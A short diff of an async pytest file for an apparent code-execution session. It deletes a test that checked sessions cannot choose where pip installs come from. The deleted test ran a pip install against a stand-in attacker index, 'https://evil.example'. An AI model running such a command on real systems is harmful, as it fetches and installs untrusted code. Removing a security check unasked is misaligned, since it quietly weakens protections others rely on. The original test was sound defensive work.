@@ -242,13 +242,6 @@ async def test_what_cannot_be_installed_is_an_error_with_what_pip_said(session: 
 
 
 @pytest.mark.slow
-async def test_a_session_does_not_choose_where_packages_come_from_or_go(session: Session) -> None:
-    result = await session.execute("%pip install --index-url=https://evil.example tiny-demo")
-    assert result.error is not None
-    assert "cannot be chosen by a session" in result.error.evalue
-
-
-@pytest.mark.slow
 async def test_an_installation_can_be_stopped(session: Session, wheels: Path) -> None:
     stream = session.stream("%pip install tiny-demo; import time; time.sleep(60)", timeout=0.2)
     *_, result = [event async for event in stream]
